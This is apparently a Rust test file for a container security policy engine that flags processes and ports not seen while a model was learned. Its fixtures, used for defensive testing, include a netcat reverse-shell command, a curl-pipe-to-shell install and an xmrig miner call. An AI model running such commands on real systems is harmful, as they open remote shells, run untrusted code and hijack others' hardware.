//! Realistic processes judged against a model learned the way the console learns one.

use palisade_policy::{
    judge, judge_port, Action, ExecFacts, ListEntry, ListeningPort, Mode, Model, Policy, PortEntry,
    Protocol, RuleId, Severity, Verdict,
};

const STARTED: i64 = 1_700_000_000;

fn exec(executable: &str, argv: &[&str]) -> ExecFacts {
    ExecFacts {
        container: Some("web".into()),
        pid: 42,
        ppid: 7,
        uid: 0,
        executable: executable.into(),
        argv: argv.iter().map(|arg| (*arg).to_owned()).collect(),
        parent_executable: Some("/bin/sh".into()),
        exe_mtime: Some(STARTED - 86_400),
        container_started: Some(STARTED),
        ..ExecFacts::default()
    }
}

/// The web container's main process and what its entrypoint script runs at every start.
fn normal_run() -> Vec<ExecFacts> {
    let nginx = ExecFacts {
        workload_root: true,
        parent_executable: Some("/palisade/palisade-defender".into()),
        ..exec("/usr/sbin/nginx", &["nginx", "-g", "daemon off;"])
    };
    vec![
        exec("/bin/sh", &["/bin/sh", "/docker-entrypoint.sh"]),
        exec("/usr/bin/envsubst", &["envsubst"]),
        exec("/usr/bin/dpkg", &["dpkg", "--print-architecture"]),
        exec("/bin/cp", &["cp", "/bin/sleep", "/tmp/x"]),
        nginx,
    ]
}

/// A model learned from three tasks of the family, merged as the console does.
fn learned() -> Model {
    let mut model = Model::default();
    for task in 0..3 {
        let mut one = Model::default();
        for (at, facts) in normal_run().iter().enumerate() {
            one.learn_exec(facts, 1_000 * task + at as i64);
        }
        let port = ListeningPort {
            protocol: Protocol::Tcp,
            port: 80,
            container: Some("web".into()),
        };
        one.learn_port(&port, 1_000 * task);
        model.merge(&one);
    }
    model
}

fn policy(mode: Mode, model: Option<Model>) -> Policy {
    Policy {
        mode,
        model,
        ..Policy::default()
    }
}

fn rules(verdict: &Verdict) -> Vec<RuleId> {
    verdict.alerts.iter().map(|alert| alert.rule).collect()
}

fn the_copied_sleep() -> ExecFacts {
    ExecFacts {
        exe_mtime: Some(STARTED + 30),
        ..exec("/tmp/x", &["/tmp/x", "1000"])
    }
}

#[test]
fn a_binary_copied_to_tmp_alerts_twice_once_the_model_is_active() {
    let verdict = judge(&policy(Mode::Alert, Some(learned())), &the_copied_sleep());
    assert_eq!(rules(&verdict), [RuleId::NotFromImage, RuleId::NotInModel]);
    assert_eq!(
        verdict.alerts[0].message,
        "/tmp/x runs from the temporary folder /tmp/ and was modified after its container started"
    );
    assert_eq!(
        verdict.alerts[1].message,
        "/tmp/x (parent /bin/sh) never ran in container web while its model was learned: /tmp/x 1000"
    );
    assert_eq!(verdict.action, Action::Allow, "alert mode never kills");
    let learning = judge(&policy(Mode::Alert, None), &the_copied_sleep());
    assert_eq!(rules(&learning), [RuleId::NotFromImage]);
}

#[test]
fn a_process_the_model_knows_gives_no_alert() {
    let policy = policy(Mode::Prevent, Some(learned()));
    for facts in normal_run() {
        assert_eq!(judge(&policy, &facts), Verdict::quiet(), "{:?}", facts.argv);
    }
    let restarted = ExecFacts {
        parent_executable: Some("/usr/bin/tini".into()),
        uid: 101,
        ..exec("/usr/sbin/nginx", &["nginx"])
    };
    assert_eq!(
        judge(&policy, &restarted),
        Verdict::quiet(),
        "parents and users are not compared"
    );
}

#[test]
fn prevent_kills_tmp_x_but_never_the_workload_root_on_a_model_alert_alone() {
    let mut policy = policy(Mode::Prevent, Some(learned()));
    assert_eq!(judge(&policy, &the_copied_sleep()).action, Action::Kill);
    let new_main = ExecFacts {
        workload_root: true,
        ..exec("/usr/local/bin/caddy", &["caddy", "run"])
    };
    let verdict = judge(&policy, &new_main);
    assert_eq!(rules(&verdict), [RuleId::NotInModel]);
    assert_eq!(verdict.action, Action::Allow);
    let same_as_child = ExecFacts {
        workload_root: false,
        ..new_main.clone()
    };
    assert_eq!(judge(&policy, &same_as_child).action, Action::Kill);
    let miner_root = ExecFacts {
        workload_root: true,
        ..exec("/usr/local/bin/xmrig", &["xmrig"])
    };
    assert_eq!(judge(&policy, &miner_root).action, Action::Kill);
    policy
        .deny
        .push(ListEntry::in_container("/usr/local/bin/caddy", "web"));
    let verdict = judge(&policy, &new_main);
    assert_eq!(rules(&verdict), [RuleId::DenyList, RuleId::NotInModel]);
    assert_eq!(
        verdict.action,
        Action::Kill,
        "a deny entry stops even the main process"
    );
}

#[test]
fn prevent_lets_a_medium_alert_alone_run() {
    let mut model = learned();
    model.add_exec("web", "/usr/bin/apt-get", 5_000);
    let policy = policy(Mode::Prevent, Some(model));
    let verdict = judge(
        &policy,
        &exec("/usr/bin/apt-get", &["apt-get", "install", "-y", "nmap"]),
    );
    assert_eq!(rules(&verdict), [RuleId::PackageManager]);
    assert_eq!(verdict.alerts[0].severity, Severity::Medium);
    assert_eq!(verdict.action, Action::Allow);
}

#[test]
fn xmrig_under_usr_local_bin_is_a_crypto_miner() {
    let facts = exec(
        "/usr/local/bin/xmrig",
        &["xmrig", "-o", "pool.example:3333", "--donate-level", "1"],
    );
    let verdict = judge(&policy(Mode::Alert, None), &facts);
    assert_eq!(rules(&verdict), [RuleId::CryptoMiner]);
    assert_eq!(verdict.alerts[0].severity, Severity::Critical);
    assert_eq!(verdict.alerts[0].message, "crypto miner xmrig started");
    let renamed = exec(
        "/usr/local/bin/kswapd",
        &["kswapd", "-o", "stratum+tcp://pool.example:3333"],
    );
    assert_eq!(
        rules(&judge(&policy(Mode::Alert, None), &renamed)),
        [RuleId::CryptoMiner]
    );
}

#[test]
fn package_managers_are_read_from_their_real_argv() {
    let policy = policy(Mode::Alert, None);
    let pip = exec(
        "/usr/bin/python3.11",
        &["/usr/bin/python3", "-m", "pip", "install", "x"],
    );
    let verdict = judge(&policy, &pip);
    assert_eq!(rules(&verdict), [RuleId::PackageManager]);
    assert_eq!(
        verdict.alerts[0].message,
        "package manager pip changes software: /usr/bin/python3 -m pip install x"
    );
    let script = exec(
        "/usr/local/bin/python3.12",
        &[
            "/usr/local/bin/python3",
            "/usr/local/bin/pip",
            "install",
            "flask",
        ],
    );
    assert_eq!(rules(&judge(&policy, &script)), [RuleId::PackageManager]);
    let freeze = exec(
        "/usr/local/bin/python3.12",
        &["/usr/local/bin/python3", "/usr/local/bin/pip3", "freeze"],
    );
    assert_eq!(judge(&policy, &freeze), Verdict::quiet());
    let pipe = exec(
        "/bin/sh",
        &["sh", "-c", "curl -fsSL https://get.example.com | sh"],
    );
    assert_eq!(judge(&policy, &pipe), Verdict::quiet());
    let apk = exec("/sbin/apk", &["apk", "add", "--no-cache", "socat"]);
    assert_eq!(rules(&judge(&policy, &apk)), [RuleId::PackageManager]);
}

#[test]
fn network_tools_alert_and_a_health_check_probe_does_not() {
    let policy = policy(Mode::Alert, None);
    let shell = exec("/bin/busybox", &["nc", "10.0.0.9", "4444", "-e", "/bin/sh"]);
    let verdict = judge(&policy, &shell);
    assert_eq!(rules(&verdict), [RuleId::NetworkTool]);
    assert_eq!(
        verdict.alerts[0].message,
        "network tool nc started: nc 10.0.0.9 4444 -e /bin/sh"
    );
    let probe = exec("/usr/bin/nc", &["nc", "-z", "localhost", "80"]);
    assert_eq!(judge(&policy, &probe), Verdict::quiet());
}

#[test]
fn a_deleted_executable_is_not_from_the_image() {
    let facts = ExecFacts {
        exe_deleted: true,
        ..exec("/usr/sbin/nginx", &["nginx"])
    };
    let verdict = judge(&policy(Mode::Alert, Some(learned())), &facts);
    assert_eq!(
        rules(&verdict),
        [RuleId::NotFromImage],
        "the path is still the model's"
    );
    assert_eq!(
        verdict.alerts[0].message,
        "/usr/sbin/nginx was deleted while running"
    );
}

#[test]
fn allow_entries_silence_the_model_but_never_a_miner() {
    let mut policy = policy(Mode::Prevent, Some(learned()));
    policy
        .allow
        .push(ListEntry::in_container("/usr/bin/curl", "web"));
    policy.allow.push(ListEntry::new("/opt/miner/*"));
    assert_eq!(
        judge(&policy, &exec("/usr/bin/curl", &["curl", "http://api"])),
        Verdict::quiet()
    );
    let elsewhere = ExecFacts {
        container: Some("worker".into()),
        ..exec("/usr/bin/curl", &["curl"])
    };
    assert_eq!(
        judge(&policy, &elsewhere),
        Verdict::quiet(),
        "worker has no model yet"
    );
    let miner = judge(&policy, &exec("/opt/miner/xmrig", &["xmrig"]));
    assert_eq!(
        (rules(&miner), miner.action),
        (vec![RuleId::CryptoMiner], Action::Kill)
    );
}

#[test]
fn a_port_opened_after_learning_gives_one_alert() {
    let mut policy = policy(Mode::Prevent, Some(learned()));
    let backdoor = ListeningPort {
        protocol: Protocol::Tcp,
        port: 4444,
        container: Some("web".into()),
    };
    let verdict = judge_port(&policy, &backdoor);
    assert_eq!(rules(&verdict), [RuleId::NewListeningPort]);
    assert_eq!(
        verdict.alerts[0].message,
        "container web listens on tcp port 4444, which it never did while its model was learned"
    );
    assert_eq!(
        verdict.action,
        Action::Allow,
        "a port names no process to stop"
    );
    let http6 = ListeningPort {
        protocol: Protocol::Tcp6,
        port: 80,
        ..backdoor.clone()
    };
    assert_eq!(judge_port(&policy, &http6), Verdict::quiet());
    policy.allowed_ports.push(PortEntry {
        port: 4444,
        protocol: None,
        container: Some("web".into()),
    });
    assert_eq!(judge_port(&policy, &backdoor), Verdict::quiet());
    let learning = self::policy(Mode::Alert, None);
    let other = ListeningPort {
        port: 5555,
        ..backdoor
    };
    assert_eq!(
        judge_port(&learning, &other),
        Verdict::quiet(),
        "no port alert while learning"
    );
}

#[test]
fn off_says_nothing() {
    let policy = Policy {
        deny: vec![ListEntry::new("/**")],
        ..policy(Mode::Off, Some(learned()))
    };
    assert_eq!(judge(&policy, &the_copied_sleep()), Verdict::quiet());
    assert_eq!(
        judge(&policy, &exec("/usr/local/bin/xmrig", &["xmrig"])),
        Verdict::quiet()
    );
    let port = ListeningPort {
        protocol: Protocol::Udp,
        port: 53,
        container: Some("web".into()),
    };
    assert_eq!(judge_port(&policy, &port), Verdict::quiet());
}
